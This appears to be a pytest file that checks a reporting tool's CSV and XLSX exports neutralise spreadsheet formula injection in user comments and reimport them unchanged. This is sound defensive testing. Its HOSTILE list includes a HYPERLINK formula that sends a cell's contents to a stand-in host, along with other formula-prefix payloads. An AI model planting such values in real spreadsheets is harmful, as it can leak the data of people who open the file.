"""Exports carry user text, never live formulas, and the round trip keeps that text exactly."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine

from indicators.intake.importer import import_file
from indicators.intake.sheet_text import csv_text, csv_text_back
from indicators.reporting.export import export_values, headers, read_export, reimport
from indicators.storage import queries
from indicators.storage.engine import make_engine
from indicators.storage.migrate import upgrade
from plan_model.models import Plan

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A2,"clic")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tamb tabulador",
    "'=ja escapat",
    "text normal, amb coma",
]


def _numeric_indicators(plan: Plan, service: str) -> list[str]:
    return [
        i.code
        for i in plan.indicators_of_service(service)
        # issue 14: an indicator with breakdowns is reported by member, not as a total
        if i.kind in ("numeric", "context") and not i.breakdowns
    ]


def _upload(engine: Engine, plan: Plan, service: str, comments: list[str]) -> set[str]:
    """Deliver one value per comment; the comments as stored (the import trims spaces)."""
    names = headers("ca")
    codes = _numeric_indicators(plan, service)[: len(comments)]
    assert len(codes) == len(comments)
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow([names[k] for k in ("indicator", "period", "value", "comment")])
    for code, comment in zip(codes, comments, strict=True):
        writer.writerow([code, "2025-T3", "10", comment])
    result = import_file(
        engine,
        plan,
        filename=f"{service}.csv",
        content=out.getvalue().encode(),
        user="tec",
        service=service,
        period="2025-T3",
        today=dt.date(2025, 11, 20),
    )
    assert result.status == "ok", result.errors[:3]
    stored = {c for c in queries.values_frame(engine)["comment"] if isinstance(c, str)}
    assert HOSTILE[0] in stored and "@SUM(A1:A2)" in stored
    return stored


def _service_with(plan: Plan, count: int) -> str:
    return next(s.code for s in plan.services if len(_numeric_indicators(plan, s.code)) >= count)


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_escape_is_reversible(text: str) -> None:
    escaped = csv_text(text)
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert csv_text_back(escaped) == text


def test_xlsx_export_writes_comments_as_text(engine: Engine, plan: Plan) -> None:
    service = _service_with(plan, len(HOSTILE))
    stored = _upload(engine, plan, service, HOSTILE)
    export = export_values(engine, plan, "xlsx")
    with zipfile.ZipFile(io.BytesIO(export.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    sheet = load_workbook(io.BytesIO(export.content)).worksheets[0]
    comments = {cell.value for cell in sheet["E"][1:]}
    assert stored <= comments


def test_csv_export_escapes_formula_prefixes(engine: Engine, plan: Plan) -> None:
    service = _service_with(plan, len(HOSTILE))
    stored = _upload(engine, plan, service, HOSTILE)
    export = export_values(engine, plan, "csv")
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
    for row in rows[1:]:
        for cell in row[4:]:  # text columns after the value (comment, name, file...)
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
    assert {csv_text_back(row[4]) for row in rows[1:]} >= stored


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_reimport_keeps_hostile_comments(
    engine: Engine, plan: Plan, fmt: str, tmp_path: Path
) -> None:
    service = _service_with(plan, len(HOSTILE))
    stored = _upload(engine, plan, service, HOSTILE)
    export = export_values(engine, plan, fmt)
    assert set(read_export(export.filename, export.content)["comment"]) >= stored
    target_url = f"sqlite:///{tmp_path / 'copy.db'}"  # from either backend into a new database
    upgrade(target_url)
    target = make_engine(target_url)
    try:
        results = reimport(target, plan, export.filename, export.content, user="test")
        assert all(r.status == "ok" for r in results)
        assert set(queries.values_frame(target)["comment"]) >= stored
    finally:
        target.dispose()
